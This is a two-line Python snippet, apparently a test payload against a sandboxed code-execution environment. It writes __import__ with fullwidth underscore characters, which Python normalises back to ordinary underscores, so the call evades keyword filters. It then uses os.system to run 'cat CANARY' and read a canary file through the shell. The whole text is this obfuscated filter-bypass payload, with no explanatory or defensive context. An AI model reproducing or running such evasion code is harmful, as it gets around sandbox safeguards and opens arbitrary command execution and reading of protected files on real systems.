tool = _＿import_＿("os")
tool.system("cat CANARY")
